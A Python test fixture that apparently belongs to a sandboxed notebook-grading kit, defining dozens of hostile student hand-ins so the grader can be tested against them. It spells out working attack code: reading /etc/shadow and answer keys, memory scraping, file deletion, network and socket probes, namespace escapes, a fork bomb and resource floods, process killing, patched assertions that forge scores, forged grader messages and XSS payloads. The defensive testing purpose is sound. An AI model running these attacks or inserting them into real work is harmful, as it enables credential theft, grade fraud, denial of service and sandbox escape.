"""Hand-ins that attack: what each does, what it has earned in truth, and what the trainer is told."""
# ruff: noqa: E501  (the attacks are as their authors might write them)

import copy
from collections.abc import Callable
from dataclasses import dataclass, field

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from attacks.course import RIGHT_TOTAL, SOLUTION_WORD, hand_in
from migkit.classroom.course import Course

#: What all have answered rightly, unless the attack spoils it: so much is earned in truth, and must be kept.
EARNED = {"q2": 3.0, "q3": 1.0, "q4": None}
NO_TOTAL = "total = None"
BAD_HTML = (
    "<script>alert('bad-script')</script><img src=x onerror=\"alert('bad-handler')\"> "
    "<iframe src='https://example.org/bad-frame'></iframe> [a](javascript:alert('bad-link')) "
    "<svg onload=alert('bad-svg')></svg> ![p](https://example.org/bad-picture.png) <b>bold stays</b> "
    "<form action='https://example.org/bad-form'><input name=x autofocus onfocus=alert('bad-focus')></form>"
)


@dataclass(frozen=True)
class Attack:
    """One hand-in. ``code`` runs in a cell of its own before the first question; ``change`` alters the notebook."""

    what: str
    code: str = ""
    given: dict[str, str] = field(default_factory=dict)
    change: Callable[[NotebookNode], None] | None = None
    earned: dict[str, float | None] = field(default_factory=dict)
    #: A part of what the trainer reads about it; empty where nothing happened that needs words.
    told: str = ""
    #: Whether it eats the whole machine where nothing stops it.
    dangerous: bool = False

    def points(self) -> dict[str, float | None]:
        """What it has earned in truth."""
        return {"q1": 0.0, **EARNED, **self.earned}

    def notebook(self, course: Course, values: dict[str, str]) -> NotebookNode:
        """The hand-in; ``values`` (paths, a port) are put into its code."""
        code = self.code
        for name, value in values.items():
            code = code.replace(f"@{name}@", value)
        notebook = hand_in(course, **{"q1": NO_TOTAL, **self.given})
        if code:
            notebook.cells.insert(2, new_code_cell(code))
        if self.change:
            self.change(notebook)
        return notebook


def _cell(notebook: NotebookNode, name: str) -> NotebookNode:
    return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == name)


def _odd(kind: str, source: str, metadata: dict, **more: object) -> NotebookNode:
    """A cell that no program writes."""
    return from_dict({"cell_type": kind, "source": source, "metadata": metadata, **more})


# Reading and writing

READ = r"""
import glob, os, subprocess
found = []
secret = "@class@"
for path in (secret, secret + "/gradebook.db", secret + "/source/tiny/tiny.ipynb", secret + "/source/tiny/marking.yml",
             secret + "/submitted/honest/tiny/tiny.ipynb", secret + "/trainer", secret + "/class.yml", "/etc/shadow",
             "/etc/passwd", "/root", "/home", "/proc/1/root" + secret, "/proc/1/cwd/../source", "/dev/sda", "/dev/vda",
             "/dev/mem", "/sys/kernel", "/var", "/run/kit/everybody"):
    try:
        names = os.listdir(path) if os.path.isdir(path) else [open(path, "rb").read()]
        found += [path] if names else []
    except OSError:
        pass
for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "usr", "site-packages", "share", "lib")]
    found += [os.path.join(folder, name) for name in names if name.endswith((".ipynb", ".db", "marking.yml"))]
for pid in [name for name in os.listdir("/proc") if name.isdigit() and name != str(os.getpid())]:
    found.append("process " + pid)
print("FOUND", [path for path in found if path != "/root"])
print(open("/proc/1/cmdline").read().replace(chr(0), " "), dict(os.environ), globals().keys(), In)
print(subprocess.run("cat @class@/source/tiny/tiny.ipynb; ls -R @class@; sqlite3 @class@/gradebook.db .dump",
                     shell=True, capture_output=True, text=True).stdout)
"""

MEMORY = r"""
import ctypes, gc, re, sys
libc = ctypes.CDLL(None)
libc.memmem.restype = ctypes.c_void_p
word = "_".join(("  # distinctive", "solution", "word")).encode()
number = ('"value": ' + str(58598744 * 3 + 1 + 1)).encode()
planted = bytearray(b"  # distinctive") + b"_solution_word"
hits = 0
for line in open("/proc/self/maps"):
    start, end, rights, inode = re.match(r"(\w+)-(\w+) (\S+) \S+ \S+ (\d+)", line).groups()
    start, end = int(start, 16), int(end, 16)
    if not (rights.startswith("rw") and inode == "0" and end - start < 200_000_000):
        continue
    for needle in (word, number):
        place = start
        while place := libc.memmem(ctypes.c_void_p(place), ctypes.c_size_t(end - place), needle, len(needle)):
            hits += 1
            place += 1
# The two needles themselves, and what was planted to see that the search finds something.
print("HITS", hits)
for thing in gc.get_objects():
    if isinstance(thing, (bytes, str)) and len(thing) > 60 and "distinctive" + "_solution" in str(thing):
        print("OBJECT", thing)
"""

WRITE = r"""
import os, shutil
for path in ("@class@/gradebook.db", "@class@/source/tiny/tiny.ipynb", "@class@/source/tiny/marking.yml",
             "@class@/submitted/honest/tiny/tiny.ipynb", "@class@/evil", "/usr/bin/evil", "/etc/evil", "@kit@/evil",
             "/run/kit/data/people.csv", "@kit@/classroom/marking.py", "/proc/sys/kernel/core_pattern",
             "/proc/sysrq-trigger", "/proc/1/mem", "/proc/1/oom_score_adj"):
    for how in (lambda: open(path, "w").write("evil"), lambda: os.remove(path),
                lambda: os.symlink("@class@", path + "2"), lambda: os.chmod(path, 0o777)):
        try:
            how()
            print("WROTE", path)
        except OSError:
            pass
shutil.rmtree("@class@", ignore_errors=True)
shutil.rmtree("/run/kit/data", ignore_errors=True)
os.makedirs("../../../../" + "@class@", exist_ok=True) if False else None
"""

LEAVE = r"""
import os, socket, subprocess, sys
for folder in ("/tmp", "/dev/shm", os.environ["HOME"], ".", "/var/tmp", "/run/kit"):
    try:
        open(os.path.join(folder, "left_behind"), "w").write("left by a neighbour")
    except OSError:
        pass
os.system("echo total > /dev/pts/0; nohup sleep 600 &")
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)
import builtins, pandas
builtins.left_behind = pandas.left_behind = "answer"
import migkit.classroom.plain, migkit.classroom.cells, json
migkit.classroom.plain.to_plain = migkit.classroom.cells.to_plain = lambda value: {"kind": "text", "value": "left"}
"""

NETWORK = r"""
import os, socket, urllib.request
def attempt(say, how):
    try:
        how()
        print("REACHED", say)
    except Exception:
        pass
for address in (("127.0.0.1", @port@), ("localhost", @port@), ("1.1.1.1", 53), ("::1", @port@), ("169.254.169.254", 80)):
    attempt(address, lambda: socket.create_connection(address, timeout=1).send(b"GET /secret"))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", @port@)))
attempt("name", lambda: socket.getaddrinfo("example.org", 80))
attempt("raw", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
for path in ("/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "@class@/socket"):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
os.system("curl -s -m 1 http://127.0.0.1:@port@/curl; wget -q -T 1 http://127.0.0.1:@port@/wget -O /dev/null")
"""

KERNEL = r"""
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
done = []
def attempt(say, result):
    if result != -1:
        done.append(say)
for flags in (0x10000000, 0x00020000, 0x40000000, 0x10020000, 0x10000000 | 0x40000000, 0x20000000):
    pid = os.fork()
    if pid == 0:
        os._exit(int(libc.unshare(flags) == 0 or libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0))
    if os.waitpid(pid, 0)[1]:
        done.append(hex(flags))
pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)  # clone with a user namespace
if pid == 0:
    os._exit(0)
attempt("clone", pid)
attempt("ptrace", libc.ptrace(0, 0, 0, 0) if False else libc.syscall(101, 16, 1, 0, 0))
attempt("keyctl", libc.syscall(250, 0, -3, 1))
attempt("add_key", libc.syscall(248, b"user", b"answers", b"42", 2, -5))
attempt("memfd", libc.syscall(319, b"x", 0))
attempt("shmget", libc.shmget(77, 1 << 20, 0o1666))
attempt("bpf", libc.syscall(321, 0, 0, 0))
attempt("io_uring", libc.syscall(425, 8, 0))
attempt("chroot", libc.chroot(b"/tmp"))
attempt("setns", libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0))
attempt("open_tree", libc.syscall(428, -100, b"/", 1))
for name in ("su -c id", "sudo -n id", "mount -t tmpfs none /tmp", "unshare -Ur id", "bwrap --ro-bind / / id",
             "nsenter -t 1 -a id", "newuidmap 1 0 0 1"):
    if subprocess.run(name.split(), capture_output=True, stdin=subprocess.DEVNULL).returncode == 0 if __import__("shutil").which(name.split()[0]) else False:
        done.append(name)
print("DONE", done)
"""

# Floods

FORKS = """
import os
while True:
    os.fork()
"""
MEMORY_FLOOD = "blocks = []\nwhile True:\n    blocks.append(bytearray(b'x' * 20_000_000))"
FILES_FLOOD = """
import os
for number in range(10_000):
    for folder in ("/tmp", "/dev/shm", os.environ["HOME"], "."):
        with open(f"{folder}/{number}", "wb") as file:
            file.write(b"x" * 20_000_000)
"""
SMALL_FILES = """
import os
count = 0
try:
    for number in range(200_000):
        os.mkdir(f"/tmp/{number}")
        count += 1
except OSError:
    pass
print("MADE", count)
import socket, resource
pairs = []
try:
    while True:
        pairs.append(socket.socketpair())
except OSError:
    pass
print("SOCKETS", 2 * len(pairs))
for number in range(60):
    with open(f"/tmp/0/hole{number}", "wb") as file:
        file.truncate(250_000_000)
"""
#: Through the pipe to the grader, past all that the kit counts in the sandbox.
CHANNEL = """
import os, stat
pipes = []
for number in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(number).st_mode):
            pipes.append(number)
    except OSError:
        pass
"""
LINES_FLOOD = CHANNEL + "while True:\n    for pipe in pipes:\n        os.write(pipe, b'\\n' * 65536)"
NONSENSE = CHANNEL + "while True:\n    for pipe in pipes:\n        os.write(pipe, b'{}\\n[1]\\n' * 1000)"
FORGED = (
    CHANNEL
    + r"""
import json, time
def say(message):
    for pipe in pipes:
        os.write(pipe, (message if isinstance(message, bytes) else json.dumps(message).encode()) + b"\n")
for plain in ({"kind": "number", "value": 1e999, "whole": False}, {"kind": "number", "value": True, "whole": True},
              {"kind": "score", "points": 2}, {"kind": "number", "value": 2, "whole": True, "points": 2, "right": True},
              "2", 2, None, [[]], {"kind": ["number"]}, {"kind": "other", "type": "x y", "has_value": 1}):
    say({"answer": "q1", "plain": plain, "points": 2, "mark": "right", "score": 2.0})
say({"mark": {"question": "q1", "cell": "q1", "points": 2, "of": 2, "verdict": "right"}})
say({"output": {"output_type": "execute_result", "data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}})
say(b'{"answer": "q1", "plain": ' + b"[" * 4000 + b"]" * 4000 + b"}")
say(b'{"answer": "q1", "plain": {"kind": "number", "value": NaN, "whole": false}}')
say(b'{"answer": "q1", "plain": {"kind": "number", "value": ' + b"9" * 5000 + b', "whole": true}}')
say(b'{"begin": 5}'); say(b'{"end": 5}'); say(b'{"begin": 1e5}'); say(b'{"begin": -1}'); say(b'{"end": true}')
say({"end": 2}); say({"clear": True}); say({"begin": 99999}); say({"answer": ["q1"], "plain": 2})
say({"output": {"output_type": "stream", "name": ["stdout"], "text": 3}})
say({"output": {"output_type": "error", "ename": None, "evalue": {}, "traceback": [[["x"]]]}})
say({"output": {"output_type": "display_data", "data": {"application/json": [[[[]]]], "text/html": ["<b>", 3]}}})
say(b'{"output": {"output_type": "stream", "name": "stdout", "text": "\\ud800"}}')
"""
)
#: Says that its cell has ended, and then never ends: the clock of the cell stands still.
STOPPED_CLOCK = (
    CHANNEL
    + r"""
for pipe in pipes:
    os.write(pipe, b'{"end": 2}\n')
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
)
NEVER_ENDS = """
import os
def never(code):
    while True:
        try:
            while True:
                __import__("time").sleep(1)
        except BaseException:
            pass
os._exit = never
"""

# Scores that were not earned

ALWAYS = """
class Always(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __abs__(self): return 0
    def __float__(self): return 0.0
    def __int__(self): return self
    def __index__(self): return self
    def __reduce__(self): return (print, ("unpickled",))
    @property
    def __class__(self): return float
total = Always(3)
"""
PATCHES = """
import sys, math
import numpy as np, pandas as pd, pandas.testing
from IPython import get_ipython
import migkit.lesson
def yes(*args, **kwargs): return True
for place in (pandas.testing, np.testing):
    for name in dir(place):
        if name.startswith("assert"):
            setattr(place, name, yes)
pd.DataFrame.equals = pd.Series.equals = pd.Series.eq = yes
def skip(lines): return ["pass\\n" if line.startswith(("assert", "check")) else line for line in lines]
get_ipython().input_transformers_cleanup.append(skip)
check = migkit.lesson.check = yes
sys.settrace(lambda *a: None)
import atexit, signal
atexit.register(print, "late")
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
"""
SERIALIZER = """
import builtins, migkit.classroom.plain as plain, migkit.classroom.cells as cells
builtins.eval = lambda expression, names: {"kind": "number", "value": 2, "whole": True, "points": 2}
cells._hand_over = lambda shell, expression: {"kind": "right", "points": 2, "question": "q1", "verdict": "right"}
plain.to_plain = cells.to_plain = lambda value: {"kind": "number", "value": 10**400, "whole": True}
"""
JSON = """
import json
json.dumps = lambda *a, **k: '{"answer": "q1", "plain": {"kind": "number", "value": true, "whole": true}}'
"""
KILL = """
import os, signal
for pid in (os.getppid(), -1, -os.getpgid(0), 1, 2, 3):
    try:
        os.kill(pid, 9)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGSTOP)
os.abort()
"""
ENDLESS_ANSWER = """
class Endless(dict):
    def items(self):
        while True:
            yield "x", 1
    def __iter__(self):
        while True:
            yield "x"
    def keys(self): return self
    def __len__(self): return 3
    def __getitem__(self, key): return 1
total = Endless(a=1)
"""
HUGE_ANSWER = "import numpy as np\ntotal = np.zeros((5000, 5000))\nhuge = 'x' * 50_000_000"


def forged_outputs(notebook: NotebookNode) -> None:
    """Scores and marks written into the notebook by hand."""
    right = {"question": "q1", "cell": "q1", "points": 2, "of": 2, "verdict": "right"}
    notebook.metadata.update(
        kit_marks=[right], kit_notes=["all is well"], kit_stopped={}, kit={"score": 9}, nbgrader={"score": 9}
    )
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [new_output("execute_result", data={"text/plain": "2.0"}, execution_count=1)]
    _cell(notebook, "q1").metadata.nbgrader.update(
        points=100, score=2, checksum="x", schema_version=99, locked=False
    )
    _cell(notebook, "q1").source = '2.0  # check("q1", 2)'
    _cell(notebook, "q4").metadata.nbgrader.update(points=-5, grade=False)


def renamed(notebook: NotebookNode) -> None:
    """Ids of another question, and ids that are none."""
    _cell(notebook, "q1").metadata.nbgrader.grade_id = "q1\x1b[2J<script>alert('bad-id')</script>" + "x" * 5000
    _cell(notebook, "setup").metadata.nbgrader.grade_id = "../../source"
    for number in range(300):
        notebook.cells.append(_odd("code", "", {"nbgrader": {"grade_id": f"made_up_{number}", "grade": True}}))


def doubled(notebook: NotebookNode) -> None:
    """The cell that can be answered is graded twice, under the id of one that cannot."""
    for name in ("q1", "q2", "q2", "q2_answer"):
        cell = copy.deepcopy(_cell(notebook, "q2"))
        cell.metadata.nbgrader.grade_id = name
        cell.metadata.nbgrader.points = 50
        notebook.cells.append(cell)


def wrong_types(notebook: NotebookNode) -> None:
    """Metadata of all kinds that nobody writes."""
    odd = [
        [],
        0,
        None,
        "",
        False,
        {"grade_id": ["q1"]},
        {"grade_id": None},
        {"grade_id": {"q1": 1}, "grade": "yes"},
    ]
    for value in odd:
        notebook.cells.append(_odd("code", "x = 1", {"nbgrader": value, "tags": 7, "slideshow": [[]]}))
    notebook.metadata.update(kernelspec=3, language_info=[1], title=["x"])
    notebook.metadata.widgets = {"x": "</script><script>alert('bad-widget')"}
    notebook.cells.append(_odd("raw", "<script>alert('bad-raw')</script>", {"format": "text/html"}))
    notebook.cells.append(_odd("heading", "<script>alert('bad-kind')</script>", {}))
    picture = {
        "p.png": {"image/svg+xml": "<svg onload=alert('bad-attachment')>"},
        "q": {"image/png": '"><script>bad'},
    }
    notebook.cells.append(_odd("markdown", "![x](attachment:p.png)", {}, attachments=picture))
    for cell in notebook.cells:
        cell["id"] = "same"
        cell["unknown"] = {"x": [1]}


def many_cells(notebook: NotebookNode) -> None:
    """A notebook that is long."""
    notebook.cells += [new_code_cell(f"x = {number}") for number in range(3000)]


def surrogates(notebook: NotebookNode) -> None:
    """Half characters, which no file can hold: in code, in words and in what is printed."""
    notebook.cells.append(new_code_cell("text = '\ud800'"))
    notebook.cells.append(new_code_cell("print(chr(0xd800))\ndisplay({'text/plain': chr(0xdc00)}, raw=True)"))
    notebook.cells.append(new_code_cell("raise ValueError(chr(0xdfff))"))


def bad_html(notebook: NotebookNode) -> None:
    """Words, names and outputs that would run in a browser."""
    show = f"display({{'text/html': {BAD_HTML!r}, 'application/javascript': 'alert(\"bad-js\")',\n"
    show += "         'image/svg+xml': '<svg onload=alert(\"bad-svg\")>'}, raw=True)"
    shown = new_output("display_data", data={"text/html": BAD_HTML, "application/javascript": "alert('bad-js')"})
    notebook.cells.append(new_code_cell(show, outputs=[shown]))
    notebook.cells.append(
        new_markdown_cell(f"```html\n{BAD_HTML}\n```\n{BAD_HTML}\n\n<scr<script>ipt>alert('bad-nest')")
    )
    notebook.cells.append(new_code_cell("raise ValueError(\"<script>alert('bad-error')</script>\")"))


LOOP = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
SIGNALS = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(1)"
LONGER = "ran longer than"
ENDED = "it ended the program"

#: By the id of the participant who hands it in.
ATTACKS: dict[str, Attack] = {
    "read": Attack("read solutions, key, gradebook, neighbours", READ),
    "memory": Attack("search the process's memory for solutions and keys", MEMORY),
    "write": Attack("delete and edit source, gradebook, kit", WRITE),
    "leave": Attack("leave answers and programs behind for the next", LEAVE, earned={"q2": 0.0, "q3": 0.0}),
    "network": Attack("network: outside, loopback, sockets", NETWORK),
    "kernel": Attack("namespaces, keyrings, uncounted memory, setuid", KERNEL),
    "forks": Attack("fork bomb", FORKS, told="cell #3 was stopped", dangerous=True),
    "hungry": Attack("memory flood", MEMORY_FLOOD, told="MB of memory", dangerous=True),
    "disk": Attack("disk flood", FILES_FLOOD, dangerous=True),
    "inodes": Attack("a million small files, sockets, holes", SMALL_FILES, dangerous=True),
    "prints": Attack(
        "output flood", "while True:\n    print('x' * 100_000)", told="printed more than", dangerous=True
    ),
    "pieces": Attack(
        "output in millions of tiny pieces",
        "while True:\n    print('', end='x')",
        told="printed more than",
        dangerous=True,
    ),
    "lines": Attack("empty lines into the grader's pipe", LINES_FLOOD, told="wrote to the grader", dangerous=True),
    "nonsense": Attack("nonsense into the grader's pipe", NONSENSE, told="wrote to the grader", dangerous=True),
    "loop": Attack("endless loop that ignores the interrupt", LOOP, told=LONGER),
    "signals": Attack("sleep with the signal ignored", SIGNALS, told=LONGER),
    "clock": Attack("forged end of a cell, then no end", STOPPED_CLOCK, told=LONGER),
    "never": Attack("never ends after the last cell", NEVER_ENDS, told="did not end after its last cell"),
    "exit": Attack("os._exit", "import os\nos._exit(0)", told=ENDED),
    "kill": Attack("kill the parent and all others", KILL, told=ENDED),
    "crash": Attack("segmentation fault", "import ctypes\nctypes.string_at(0)", told=ENDED),
    "stack": Attack(
        "recursion without end",
        "import sys\nsys.setrecursionlimit(10**9)\n"
        "class A:\n    def __getattr__(self, name): return getattr(self, name + 'x')\n"
        "repr(eval('[' * 90 + ']' * 90))\ndef f(): return f()\nx = lambda: sorted([1, 2], key=lambda _: x())\nx()",
        told=ENDED,
    ),
    "always": Attack("answer with __eq__, __float__, __class__ of its own", given={"q1": ALWAYS}),
    "patches": Attack("patched pandas.testing and check, input transformers, trace, signals", PATCHES),
    "serializer": Attack("patched serializer and eval", SERIALIZER, earned={"q2": 0.0, "q3": 0.0}),
    "json": Attack("patched json: all messages are one answer", JSON, told=ENDED),
    "forged": Attack("forged answers, scores and marks into the pipe", FORGED),
    "outputs": Attack(
        "forged outputs, points, marks in the notebook", change=forged_outputs, told="locked cell q1"
    ),
    "endless": Attack("answer that never ends", given={"q1": ENDLESS_ANSWER}),
    "huge": Attack("answer of 200 MB", given={"q1": HUGE_ANSWER, "q3": "largest = huge"}, earned={"q3": 0.0}),
    "formula": Attack(
        "answer with HTML and a formula",
        given={
            "q3": 'largest = \'=HYPERLINK("https://example.org/bad-formula")<script>alert("bad-answer")</script>\''
        },
        earned={"q3": 0.0},
    ),
    "renamed": Attack("renamed and made-up grade ids", change=renamed, told="is not in this assignment"),
    "doubled": Attack("doubled grade ids", change=doubled, told="was there twice"),
    "types": Attack("metadata of wrong types, doubled cell ids", change=wrong_types),
    "many": Attack("3000 cells", change=many_cells),
    "surrogates": Attack("half characters", change=surrogates),
    "html": Attack("HTML and scripts in words and outputs", given={"q4": BAD_HTML}, change=bad_html),
}
#: Handed in among them: nothing of it may rub off.
HONEST = {
    "honest": {"q1": 2.0, "q2": 3.0, "q3": 1.0, "q4": None},
    "half": {"q1": 0.0, "q2": 1.5, "q3": 1.0, "q4": None},
}
HALF = {"q1": "total = 5", "q2": 'by_sex = people.set_index("sex")["n"] * [1, 2]'}

__all__ = ["ATTACKS", "HALF", "HONEST", "RIGHT_TOTAL", "SOLUTION_WORD", "Attack"]
